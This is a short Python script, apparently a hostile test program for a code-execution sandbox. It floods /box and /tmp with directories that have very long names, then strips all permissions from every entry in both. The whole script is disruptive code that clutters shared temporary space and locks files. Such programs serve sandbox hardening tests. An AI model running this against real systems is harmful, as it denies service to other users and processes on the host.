import os
for i in range(1000):
    try: os.mkdir(f"/box/{'d' * 200}{i}"); os.mkdir(f"/tmp/{'d' * 200}{i}")
    except OSError: break
for f in ("/box", "/tmp"):
    for d in os.listdir(f): os.chmod(f"{f}/{d}", 0)
